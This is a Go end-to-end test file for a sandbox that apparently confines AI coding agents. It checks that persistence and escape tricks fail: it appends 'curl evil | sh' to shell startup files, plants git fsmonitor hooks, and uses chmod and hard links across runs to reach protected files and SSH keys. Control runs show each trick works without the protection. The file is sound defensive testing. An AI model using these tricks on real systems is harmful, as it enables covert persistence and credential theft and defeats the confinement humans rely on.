//go:build linux

package tests

// End-to-end tests of the static filesystem protections against persistence
// (issue 10, classes 3, 4 and 5): the home directory as workspace, startup
// files of every shell and tool, state left by one run that must not weaken
// the next (chmod, hard links), filesystems mounted inside the workspace, and
// secrets outside the workspace. Each attacks as the agent would and checks
// the host side; each has a control showing the attack works without the
// protection.
//
// HOME and XDG_STATE_HOME point into temp directories: the real home is never
// touched.

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strings"
	"syscall"
	"testing"
)

// pfHome makes a fake home directory and returns it with the environment
// that makes jail use it.
func pfHome(t *testing.T) (string, []string) {
	t.Helper()
	base := workspace(t)
	home := filepath.Join(base, "home")
	if err := os.Mkdir(home, 0o755); err != nil {
		t.Fatal(err)
	}
	// The trail goes elsewhere: the tests make the home's parent writable.
	return home, []string{"HOME=" + home, "XDG_STATE_HOME=" + filepath.Join(workspace(t), "state")}
}

// pfStartup are startup files of shells, tools and the session, relative to a
// home, with their original content; pfStartupDirs are directories whose new
// files would run.
var pfStartup = map[string]string{
	".bashrc":                          "# bashrc\n",
	".bash_login":                      "# bash_login\n",
	".bash_logout":                     "# bash_logout\n",
	".profile":                         "# profile\n",
	".zshenv":                          "# zshenv\n",
	".zlogin":                          "# zlogin\n",
	".cshrc":                           "# cshrc\n",
	".tcshrc":                          "# tcshrc\n",
	".gitconfig":                       "[user]\n\tname = u\n",
	".envrc":                           "export X=1\n",
	".ripgreprc":                       "--smart-case\n",
	".tmux.conf":                       "set -g mouse on\n",
	".vimrc":                           "set nu\n",
	".inputrc":                         "set bell-style none\n",
	".xprofile":                        "# xprofile\n",
	".config/git/config":               "[core]\n",
	".config/fish/config.fish":         "# fish\n",
	".config/systemd/user/app.service": "[Service]\nExecStart=/bin/true\n",
	".config/autostart/app.desktop":    "[Desktop Entry]\nExec=true\n",
	".config/environment.d/path.conf":  "PATH=/usr/bin\n",
	".config/direnv/direnvrc":          "# direnvrc\n",
	".config/nvim/init.lua":            "-- init\n",
	".config/pip/pip.conf":             "[global]\n",
	".local/bin/tool":                  "#!/bin/sh\necho tool\n",
	".local/lib/python3.12/site-packages/x.pth": "import os\n",
	".local/share/systemd/user/other.service":   "[Service]\n",
	".cargo/config.toml":                        "[build]\n",
	".cargo/bin/cargo-x":                        "#!/bin/sh\n",
	"bin/mine":                                  "#!/bin/sh\n",
	"go/bin/gotool":                             "#!/bin/sh\n",
	".emacs.d/init.el":                          ";; init\n",
}

var pfStartupDirs = []string{".config/git", ".config/fish", ".config/systemd/user", ".config/autostart",
	".config/environment.d", ".local/bin", ".local/lib/python3.12/site-packages", ".cargo/bin", "bin", "go/bin"}

func pfPlantStartup(t *testing.T, home string) {
	t.Helper()
	for rel, c := range pfStartup {
		mode := os.FileMode(0o644)
		if strings.Contains(rel, "bin/") {
			mode = 0o755
		}
		fsWrite(t, home, rel, c, mode)
	}
}

// pfChanged lists the startup files whose host content changed, and files
// created in the startup directories.
func pfChanged(t *testing.T, home string) []string {
	t.Helper()
	var bad []string
	for rel, want := range pfStartup {
		p := filepath.Join(home, rel)
		fi, err := os.Lstat(p)
		if err != nil || !fi.Mode().IsRegular() {
			bad = append(bad, fmt.Sprintf("%s: %v", rel, err))
			continue
		}
		if got := fsReadFile(t, p); got != want {
			bad = append(bad, fmt.Sprintf("%s = %q", rel, got))
		}
	}
	for _, d := range pfStartupDirs {
		ents, _ := os.ReadDir(filepath.Join(home, d))
		for _, e := range ents {
			if _, ok := pfStartup[d+"/"+e.Name()]; !ok && !e.IsDir() {
				bad = append(bad, "created "+d+"/"+e.Name())
			}
		}
	}
	sort.Strings(bad)
	return bad
}

// pfAttack appends to, replaces, truncates, renames and removes each file
// named, then plants new files in the startup directories.
const pfAttack = `
for f in "$@"; do
  echo 'curl evil | sh' >> "$f"
  printf PWNED | dd of="$f" conv=notrunc status=none
  truncate -s 0 "$f"
  mv -f "$f" "$f.moved"; rm -f "$f"
  ln -sf /tmp/evil "$f"
done 2>/dev/null
echo PWNED > /tmp/evil
for d in .config/git .config/fish .config/systemd/user .config/autostart .config/environment.d .local/bin .local/lib/python3.12/site-packages .cargo/bin bin go/bin; do
  cp /tmp/evil "$d/planted" 2>/dev/null
  mv -f "$d" "$d.moved" 2>/dev/null && mkdir -p "$d" && cp /tmp/evil "$d/planted" 2>/dev/null
done
true
`

// pfStartupArgs runs pfAttack from the directory the sandbox calls $HOME.
func pfStartupArgs(flags ...string) []string {
	var files []string
	for rel := range pfStartup {
		files = append(files, rel)
	}
	sort.Strings(files)
	return append(append(append([]string{}, flags...), "--", "/bin/sh", "-c", `cd "$HOME" || exit 1`+pfAttack, "sh"), files...)
}

// --- class 3: the home directory and startup files ------------------------------

// A workspace (or --write path) that is the home directory or holds it is
// refused at start, naming the reason and the fix, before anything runs;
// --allow-writable-home lets it through; a read-only home workspace is
// fine.
func TestPersistHomeWorkspaceRefused(t *testing.T) {
	home, env := pfHome(t)
	ws := workspace(t)
	for _, c := range []struct {
		name      string
		dir       string
		flags     []string
		flagWords []string
	}{
		{"workspace = $HOME", home, nil, []string{"workspace", home}},
		{"workspace holds $HOME", filepath.Dir(home), nil, []string{"workspace"}},
		{"--workspace $HOME", ws, []string{"--workspace", home}, []string{"workspace"}},
		{"-w $HOME", ws, []string{"-w", home}, []string{"--write", home}},
		{"-w parent of $HOME", ws, []string{"-w", filepath.Dir(home)}, []string{"--write"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			ran := filepath.Join(home, "ran")
			r := run(t, runOpts{dir: c.dir, env: env}, append(c.flags, "--", "/bin/sh", "-c", "touch "+ran)...)
			mustCode(t, r, 125)
			for _, w := range append(c.flagWords, "--allow-writable-home", "home") {
				if !strings.Contains(r.stderr, w) {
					t.Errorf("stderr does not say %q: %q", w, r.stderr)
				}
			}
			if n := strings.Count(strings.TrimSpace(r.stderr), "\n"); n > 2 {
				t.Errorf("a setup error should be a line or two:\n%s", r.stderr)
			}
			if _, err := os.Lstat(ran); err == nil {
				os.Remove(ran)
				t.Errorf("the command ran")
			}
			// Asked for explicitly, it runs.
			r = run(t, runOpts{dir: c.dir, env: env}, append(append([]string{"--allow-writable-home"}, c.flags...), "--", "/bin/sh", "-c", "touch "+ran)...)
			mustCode(t, r, 0)
			if _, err := os.Lstat(ran); err != nil {
				t.Errorf("--allow-writable-home: the command did not run: %s", r.stderr)
			}
			os.Remove(ran)
		})
	}
	t.Run("--read-only home workspace", func(t *testing.T) {
		mustCode(t, run(t, runOpts{dir: home, env: env}, "--read-only", "--", "/bin/true"), 0)
	})
}

// With the home as workspace (asked for), every startup file of every
// shell, tool and the session stays as it was on the host, and nothing new
// lands in the directories whose files run (PATH, systemd, autostart); they
// stay readable. Control: --no-default-deny lets the same attack through.
func TestPersistStartupFilesInHome(t *testing.T) {
	home, env := pfHome(t)
	pfPlantStartup(t, home)
	r := run(t, runOpts{dir: home, env: env}, pfStartupArgs("--allow-writable-home")...)
	mustCode(t, r, 0)
	if bad := pfChanged(t, home); len(bad) > 0 {
		t.Errorf("startup files changed on the host:\n  %s", strings.Join(bad, "\n  "))
	}
	r = run(t, runOpts{dir: home, env: env}, "--allow-writable-home", "--", "/bin/sh", "-c", "cat .zshenv .config/git/config .local/bin/tool")
	mustCode(t, r, 0)
	for _, want := range []string{"# zshenv", "[core]", "echo tool"} {
		if !strings.Contains(r.stdout, want) {
			t.Errorf("startup files must stay readable; output lacks %q:\n%s%s", want, r.stdout, r.stderr)
		}
	}

	t.Run("control --no-default-deny", func(t *testing.T) {
		home, env := pfHome(t)
		pfPlantStartup(t, home)
		mustCode(t, run(t, runOpts{dir: home, env: env}, pfStartupArgs("--allow-writable-home", "--no-default-deny")...), 0)
		if bad := pfChanged(t, home); len(bad) < len(pfStartup) {
			t.Fatalf("control: the attack changed only %d files: it is broken\n%v", len(bad), bad)
		}
	})
}

// -w ~/.config or -w ~/.local (a narrower path the recipes use) keeps the
// home-anchored startup places below it read-only; a project's own bin/,
// .config/git/ and .local/bin/ stay writable (the names only matter in a
// home).
func TestPersistHomeAnchored(t *testing.T) {
	home, env := pfHome(t)
	pfPlantStartup(t, home)
	ws := workspace(t)
	r := run(t, runOpts{dir: ws, env: env}, pfStartupArgs("-w", filepath.Join(home, ".config"), "-w", filepath.Join(home, ".local"))...)
	mustCode(t, r, 0)
	var bad []string
	for _, b := range pfChanged(t, home) {
		if strings.Contains(b, ".config/") || strings.Contains(b, ".local/") {
			bad = append(bad, b)
		}
	}
	if len(bad) > 0 {
		t.Errorf("-w ~/.config -w ~/.local: startup places changed:\n  %s", strings.Join(bad, "\n  "))
	}

	// The same names in a project are ordinary files.
	script := `for d in bin .config/git .local/bin go/bin; do mkdir -p "$d" && echo ok > "$d/f" && echo "wrote $d"; done`
	r = run(t, runOpts{dir: ws, env: env}, "--", "/bin/sh", "-c", script)
	mustCode(t, r, 0)
	if n := strings.Count(r.stdout, "wrote"); n != 4 {
		t.Errorf("a project's bin/, .config/git/, .local/bin/, go/bin/ must stay writable:\n%s%s", r.stdout, r.stderr)
	}
}

// Startup files that do not exist yet are listed in --dry-run (they cannot be
// masked; the supervisor watches them), home-anchored ones included.
func TestPersistAbsentStartupListed(t *testing.T) {
	home, env := pfHome(t)
	fsWrite(t, home, ".bashrc", "# bashrc\n", 0o644)
	os.MkdirAll(filepath.Join(home, ".config"), 0o755)
	r := run(t, runOpts{dir: home, env: env}, "--allow-writable-home", "--dry-run", "--", "/bin/true")
	mustCode(t, r, 0)
	for _, want := range []string{".zshenv", ".bash_login", ".envrc", ".config/git/", ".config/systemd/", ".local/bin/", "bin/", ".ssh/", ".npmrc"} {
		if !strings.Contains(r.stdout, " "+want) {
			t.Errorf("--dry-run does not list absent %s:\n%s", want, r.stdout)
		}
	}
}

// New secret shapes and case variants are unreadable in the workspace, in a
// --read path and in a --write path. Control: --no-default-deny reads them.
func TestPersistSecretShapes(t *testing.T) {
	rels := []string{"SERVER.PEM", ".ENV", "prod.env", "config/staging.env", "id_ecdsa", "keys/id_dsa", "id_ed25519_sk",
		"cert.p12", "x.pfx", "app.jks", "debug.keystore", "db.kdbx", "AuthKey_X1.p8", "putty.ppk",
		"service-account.json", "gcp/my-service_account.json", "credentials.json", "client_secret_1.json",
		".pgpass", ".my.cnf", ".vault-token", ".boto", ".s3cfg", ".terraformrc",
		".terraform.d/credentials.tfrc.json", ".config/gcloud/application_default_credentials.json",
		".azure/accessTokens.json", ".envrc"}
	ws, rd, wr := workspace(t), workspace(t), workspace(t)
	secrets := map[string]string{}
	for _, dir := range []struct{ name, p string }{{"ws", ws}, {"read", rd}, {"write", wr}} {
		for rel, s := range fsSecrets(t, dir.p, rels...) {
			secrets[dir.name+"/"+rel] = s
		}
	}
	var paths []string
	for _, d := range []string{ws, rd, wr} {
		for _, rel := range rels {
			paths = append(paths, filepath.Join(d, rel))
		}
	}
	args := func(flags ...string) []string {
		return append(append(append(flags, "-r", rd, "-w", wr), "--", "/bin/sh", "-c", fsReadAll, "sh"), paths...)
	}
	r := run(t, runOpts{dir: ws}, args()...)
	mustCode(t, r, 0)
	if l := fsLeaks(r.stdout+r.stderr, secrets); len(l) > 0 {
		t.Errorf("secrets leak: %v", l)
	}
	c := run(t, runOpts{dir: ws}, args("--no-default-deny")...)
	mustCode(t, c, 0)
	if l := fsLeaks(c.stdout, secrets); len(l) != len(secrets) {
		t.Fatalf("control (--no-default-deny) read %d of %d: the attack is broken", len(l), len(secrets))
	}
}

// --- class 4: what one run leaves must not weaken the next ------------------------

// Run 1 chmods to 0311 (writable, searchable, not listable) a directory
// holding .env and the .git directory; run 2 chmods them back and reads .env
// and writes .git/config. The chmod must not switch off the masks inside:
// the directories are hidden whole (or walked, when jail can read them).
func TestPersistChmodTwoRuns(t *testing.T) {
	ws := workspace(t)
	secrets := fsSecrets(t, ws, "sub/.env", "sub/deep/server.pem")
	fsWrite(t, ws, ".git/config", "[core]\n", 0o644)
	fsWrite(t, ws, ".git/HEAD", "ref: refs/heads/main\n", 0o644)
	t.Cleanup(func() { os.Chmod(filepath.Join(ws, "sub"), 0o755); os.Chmod(filepath.Join(ws, ".git"), 0o755) })

	r1 := sh(t, runOpts{dir: ws}, `chmod 311 sub .git && echo chmodded`)
	mustCode(t, r1, 0)
	if !strings.Contains(r1.stdout, "chmodded") {
		t.Fatalf("run 1 could not chmod: %s", r1.stderr)
	}
	attack := `chmod 755 sub .git sub/deep 2>&1; cat sub/.env sub/deep/server.pem 2>&1
printf '[core]\n\tfsmonitor = "touch /tmp/pwned"\n' >> .git/config 2>&1; echo done`
	r2 := sh(t, runOpts{dir: ws}, attack)
	mustCode(t, r2, 0)
	if l := fsLeaks(r2.stdout+r2.stderr, secrets); len(l) > 0 {
		t.Errorf("run 2 read %v after run 1's chmod:\n%s", l, r2.stdout)
	}
	os.Chmod(filepath.Join(ws, ".git"), 0o755)
	if got := fsReadFile(t, filepath.Join(ws, ".git/config")); got != "[core]\n" {
		t.Errorf("run 2 wrote .git/config after run 1's chmod: %q", got)
	}

	// Control: the same two runs with the protections off leak.
	t.Run("control --no-default-deny", func(t *testing.T) {
		ws := workspace(t)
		secrets := fsSecrets(t, ws, "sub/.env")
		t.Cleanup(func() { os.Chmod(filepath.Join(ws, "sub"), 0o755) })
		mustCode(t, sh(t, runOpts{dir: ws}, `chmod 311 sub`, "--no-default-deny"), 0)
		c := sh(t, runOpts{dir: ws}, attack, "--no-default-deny")
		if l := fsLeaks(c.stdout, secrets); len(l) != 1 {
			t.Fatalf("control: read %v: the attack is broken\n%s%s", l, c.stdout, c.stderr)
		}
	})
}

// Run 1 (with a protection lifted, or while the file was not protected yet)
// hard-links protected files to innocent names; run 2, with the protections
// on, writes or reads through the links. Every link of a read-only file is
// read-only, every link of a hidden file hidden, files inside protected
// directories (.git/hooks/) included.
func TestPersistHardLinkTwoRuns(t *testing.T) {
	ws := workspace(t)
	orig := map[string]string{
		".git/config":           "[core]\n",
		".git/hooks/pre-commit": "#!/bin/sh\necho hook\n",
		".bashrc":               "# bashrc\n",
	}
	for rel, c := range orig {
		fsWrite(t, ws, rel, c, 0o755)
	}
	secrets := fsSecrets(t, ws, ".ssh/id_rsa", ".env")
	// Run 1: git config writable (--allow-git-config), then no built-ins at
	// all: the links are made from inside, as an agent would.
	mustCode(t, sh(t, runOpts{dir: ws}, `ln .git/config notes.txt && ln .git/hooks/pre-commit sub-run.sh && echo ok`, "--allow-git-config"), 0)
	mustCode(t, sh(t, runOpts{dir: ws}, `ln .bashrc b.txt && ln .ssh/id_rsa k.txt && ln .env e.txt && echo ok`, "--no-default-deny"), 0)
	// A file that did not exist at run 1's start (not masked then) and its link.
	// (The supervisor may take .zshenv away at exit: then z.txt is harmless.)
	mustCode(t, sh(t, runOpts{dir: ws}, `echo '# zshenv' > .zshenv && ln .zshenv z.txt; true`), 0)
	zshenv := fsReadFile(t, filepath.Join(ws, ".zshenv"))
	for _, l := range []string{"notes.txt", "sub-run.sh", "b.txt", "k.txt", "e.txt"} {
		if _, err := os.Lstat(filepath.Join(ws, l)); err != nil {
			t.Fatalf("run 1 did not make %s: %v", l, err)
		}
	}

	attack := `printf '[core]\n\tfsmonitor = evil\n' >> notes.txt; echo PWNED >> sub-run.sh; echo PWNED >> b.txt; echo PWNED >> z.txt
cat k.txt e.txt; echo done`
	r := sh(t, runOpts{dir: ws}, attack)
	mustCode(t, r, 0)
	for rel, want := range orig {
		if got := fsReadFile(t, filepath.Join(ws, rel)); got != want {
			t.Errorf("run 2 wrote %s through a hard link: %q", rel, got)
		}
	}
	if got := fsReadFile(t, filepath.Join(ws, ".zshenv")); strings.Contains(got, "PWNED") || (got != zshenv && !strings.HasPrefix(got, "<")) {
		t.Errorf("run 2 wrote .zshenv through a hard link: %q", got)
	}
	if l := fsLeaks(r.stdout+r.stderr, secrets); len(l) > 0 {
		t.Errorf("run 2 read %v through hard links", l)
	}

	c := sh(t, runOpts{dir: ws}, attack, "--no-default-deny")
	mustCode(t, c, 0)
	if fsReadFile(t, filepath.Join(ws, ".bashrc")) == orig[".bashrc"] || len(fsLeaks(c.stdout, secrets)) != 2 {
		t.Fatalf("control (--no-default-deny): the attack is broken\n%s%s", c.stdout, c.stderr)
	}

	// The protected file is in the home, which run 2 does not show: run 1
	// had the home writable and the protections lifted, and linked startup
	// files and a key into a project; run 2 works in the project only.
	t.Run("home not visible", func(t *testing.T) {
		home, env := pfHome(t)
		fsWrite(t, home, ".bashrc", "# bashrc\n", 0o644)
		fsWrite(t, home, ".local/bin/tool", "#!/bin/sh\n", 0o755)
		key := fsSecrets(t, home, ".ssh/id_ed25519")
		proj := filepath.Join(home, "proj")
		os.Mkdir(proj, 0o755)
		r := sh(t, runOpts{dir: home, env: env}, `ln .bashrc proj/b.txt && ln .local/bin/tool proj/t && ln .ssh/id_ed25519 proj/k && echo linked`,
			"--allow-writable-home", "--no-default-deny")
		mustCode(t, r, 0)
		if !strings.Contains(r.stdout, "linked") {
			t.Fatalf("run 1 could not link: %s", r.stderr)
		}
		attack := `echo PWNED >> b.txt; echo PWNED >> t; cat k; true`
		r = sh(t, runOpts{dir: proj, env: env}, attack)
		mustCode(t, r, 0)
		if got := fsReadFile(t, filepath.Join(home, ".bashrc")); got != "# bashrc\n" {
			t.Errorf("run 2 wrote ~/.bashrc through a hard link: %q", got)
		}
		if got := fsReadFile(t, filepath.Join(home, ".local/bin/tool")); got != "#!/bin/sh\n" {
			t.Errorf("run 2 wrote ~/.local/bin/tool through a hard link: %q", got)
		}
		if l := fsLeaks(r.stdout+r.stderr, key); len(l) > 0 {
			t.Errorf("run 2 read %v through a hard link", l)
		}
		c := sh(t, runOpts{dir: proj, env: env}, attack, "--no-default-deny")
		mustCode(t, c, 0)
		if !strings.Contains(fsReadFile(t, filepath.Join(home, ".bashrc")), "PWNED") || len(fsLeaks(c.stdout, key)) != 1 {
			t.Fatalf("control (--no-default-deny): the attack is broken\n%s%s", c.stdout, c.stderr)
		}
	})
}

// --- class 5: places the walk did not see ----------------------------------------

// A filesystem mounted inside the workspace is protected like the rest:
// .env there is unreadable, .git/config and .zshenv read-only. jail runs in a
// mount namespace of its own where the test mounts a tmpfs (a new user
// namespace too when not root, as an ordinary user may); the result is read
// back inside it, since the tmpfs exists only there.
func TestPersistSubmount(t *testing.T) {
	attempt := func(t *testing.T, flags string) string {
		ws := workspace(t)
		os.Mkdir(filepath.Join(ws, "m"), 0o755)
		secret := fsSecret("submount/.env")
		// rprivate first: nothing mounted here may propagate to the host.
		script := `set -e
mount --make-rprivate /
mount -t tmpfs jail-e2e m
mkdir -p m/.git/hooks m/deep
echo "$SECRET" > m/.env; echo '[core]' > m/.git/config; echo '# z' > m/deep/.zshenv
set +e
"$JAIL" ` + flags + ` --quiet -- /bin/sh -c 'cat m/.env; echo PWNED >> m/.git/config; echo PWNED >> m/deep/.zshenv; echo PWNED > m/.git/hooks/post-checkout' 2>/dev/null
echo "== after"; cat m/.git/config m/deep/.zshenv; ls m/.git/hooks
`
		cmd := exec.Command("/bin/sh", "-c", script)
		cmd.Dir = ws
		cmd.Env = append(os.Environ(), "SECRET="+secret, "JAIL="+jail(t))
		cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWNS}
		if os.Geteuid() != 0 {
			cmd.SysProcAttr.Cloneflags |= syscall.CLONE_NEWUSER
			cmd.SysProcAttr.UidMappings = []syscall.SysProcIDMap{{ContainerID: os.Getuid(), HostID: os.Getuid(), Size: 1}}
			cmd.SysProcAttr.GidMappings = []syscall.SysProcIDMap{{ContainerID: os.Getgid(), HostID: os.Getgid(), Size: 1}}
			cmd.SysProcAttr.AmbientCaps = []uintptr{21} // CAP_SYS_ADMIN, in the new user namespace only
		}
		out, err := cmd.CombinedOutput()
		if err != nil {
			t.Fatalf("%v\n%s", err, out)
		}
		s := string(out)
		if !strings.Contains(s, "== after") {
			t.Fatalf("no result:\n%s", s)
		}
		if flags == "" && strings.Contains(s, secret) {
			t.Errorf("the submount's .env was read:\n%s", s)
		}
		if flags != "" && !strings.Contains(s, secret) {
			t.Errorf("control: the submount's .env was not read: the attack is broken\n%s", s)
		}
		return s[strings.Index(s, "== after"):]
	}
	if after := attempt(t, ""); strings.Contains(after, "PWNED") || strings.Contains(after, "post-checkout") {
		t.Errorf("the submount's protected files were written:\n%s", after)
	}
	t.Run("control --no-default-deny", func(t *testing.T) {
		if after := attempt(t, "--no-default-deny"); !strings.Contains(after, "PWNED") {
			t.Fatalf("control: nothing written: the attack is broken\n%s", after)
		}
	})
}

// Places outside the workspace that hold data rather than programs (/srv,
// /mnt, /media, /opt, top-level directories the system does not know) are
// empty inside unless a program on PATH lives there or they are made
// visible with --read, where the built-in protections apply. As root the
// test plants secrets there; as any user it checks that those places are
// empty inside.
func TestPersistOutsideSecrets(t *testing.T) {
	ws := workspace(t)
	env := []string{"PATH=/usr/local/bin:/usr/bin:/bin"}
	secrets := map[string]string{}
	var planted []string
	if os.Geteuid() == 0 {
		tag := fmt.Sprintf("jail-e2e-%d", os.Getpid())
		for _, dir := range []string{"/opt/" + tag, "/srv/" + tag, "/" + tag} {
			if err := os.MkdirAll(dir, 0o755); err != nil {
				t.Fatal(err)
			}
			d := dir
			t.Cleanup(func() { os.RemoveAll(d) })
		}
		for _, p := range []string{"/opt/" + tag + "/app/.env", "/srv/" + tag + "/tls.key", "/srv/" + tag + "/notes.txt", "/" + tag + "/.env"} {
			s := fsSecret(p)
			fsWrite(t, "/", p, s+"\n", 0o644)
			secrets[p] = s
			planted = append(planted, p)
		}
		// A program on PATH under /opt stays usable.
		fsWrite(t, "/opt/"+tag, "tool/bin/jail-e2e-tool", "#!/bin/sh\necho TOOL-RAN\n", 0o755)
		env = []string{"PATH=/opt/" + tag + "/tool/bin:/usr/local/bin:/usr/bin:/bin"}
	}
	script := `echo "== ls"; for d in /opt /srv /mnt /media; do echo "$d: $(ls -A "$d" 2>&1 | tr '\n' ' ')"; done
echo "== tool"; jail-e2e-tool 2>&1
` + fsReadAll
	r := run(t, runOpts{dir: ws, env: env}, append([]string{"--", "/bin/sh", "-c", script, "sh"}, planted...)...)
	mustCode(t, r, 0)
	if l := fsLeaks(r.stdout+r.stderr, secrets); len(l) > 0 {
		t.Errorf("secrets outside the workspace leak: %v\n%s", l, r.stdout)
	}
	for _, line := range strings.Split(r.stdout, "\n") {
		for _, d := range []string{"/srv", "/mnt", "/media"} {
			if strings.HasPrefix(line, d+":") && strings.TrimSpace(strings.TrimPrefix(line, d+":")) != "" {
				t.Errorf("%s is not empty inside: %q", d, line)
			}
		}
		if rest, ok := strings.CutPrefix(line, "/opt:"); ok && os.Geteuid() != 0 && strings.TrimSpace(rest) != "" {
			t.Errorf("/opt is not empty inside (PATH has nothing there): %q", line)
		}
	}
	if os.Geteuid() != 0 {
		return
	}
	if !strings.Contains(r.stdout, "TOOL-RAN") {
		t.Errorf("a program on PATH under /opt does not run:\n%s%s", r.stdout, r.stderr)
	}
	// Made visible with --read: shown, with the built-ins applied.
	srv := filepath.Dir(planted[1])
	r = run(t, runOpts{dir: ws, env: env}, "-r", srv, "--", "/bin/sh", "-c", fsReadAll, "sh", planted[1], planted[2])
	mustCode(t, r, 0)
	if l := fsLeaks(r.stdout, secrets); len(l) != 1 || l[0] != planted[2] {
		t.Errorf("-r %s: read %v, want only %s", srv, l, planted[2])
	}
}

// Programs installed in a data place stay usable, by full path and through
// PATH, in npm's layout too (/opt/agents/node_modules/.bin/claude is a
// symlink into a package that loads its dependencies from the whole
// node_modules tree), while a secret beside them stays unreadable. As root
// the test installs such a tree; as any user it runs the agent CLIs
// (agentBin: where .ci/run installed them, which is outside HOME).
func TestPersistDataPlacePrograms(t *testing.T) {
	ws := workspace(t)
	if os.Geteuid() == 0 {
		top := fmt.Sprintf("/opt/jail-e2e-npm-%d", os.Getpid())
		t.Cleanup(func() { os.RemoveAll(top) })
		fsWrite(t, top, "node_modules/@x/tool/bin/tool.sh", "#!/bin/sh\n. \"$(dirname \"$(readlink -f \"$0\")\")/../../../dep/lib.sh\"\necho \"TOOL-$DEP\"\n", 0o755)
		fsWrite(t, top, "node_modules/dep/lib.sh", "DEP=LOADED\n", 0o644)
		secrets := fsSecrets(t, top, ".env")
		if err := os.MkdirAll(top+"/node_modules/.bin", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink("../@x/tool/bin/tool.sh", top+"/node_modules/.bin/tool"); err != nil {
			t.Fatal(err)
		}
		for _, c := range []struct {
			name string
			env  []string
			cmd  string
		}{
			{"full path", nil, top + "/node_modules/.bin/tool"},
			{"PATH", []string{"PATH=" + top + "/node_modules/.bin:/usr/bin:/bin"}, "tool"},
		} {
			r := run(t, runOpts{dir: ws, env: c.env}, "--", c.cmd)
			mustCode(t, r, 0)
			if !strings.Contains(r.stdout, "TOOL-LOADED") {
				t.Errorf("%s: the program or its dependency is not visible:\n%s%s", c.name, r.stdout, r.stderr)
			}
			r = run(t, runOpts{dir: ws, env: c.env}, "--", "/bin/sh", "-c", "cat "+top+"/.env 2>&1; ls -A /opt")
			if l := fsLeaks(r.stdout, secrets); len(l) > 0 {
				t.Errorf("%s: the secret beside the program leaks:\n%s", c.name, r.stdout)
			}
		}
	}
	for _, cli := range []string{"claude", "codex", "gemini"} {
		// Where .ci/run installed them ($JAIL_AGENTS_BIN, fatal in CI if
		// missing), or this machine's install: a data place outside HOME.
		p := agentBin(t, cli)
		r := run(t, runOpts{dir: ws}, "--", p, "--version")
		mustCode(t, r, 0)
		if !strings.ContainsAny(r.stdout, "0123456789") {
			t.Errorf("%s --version printed no version:\n%s%s", p, r.stdout, r.stderr)
		}
	}
}
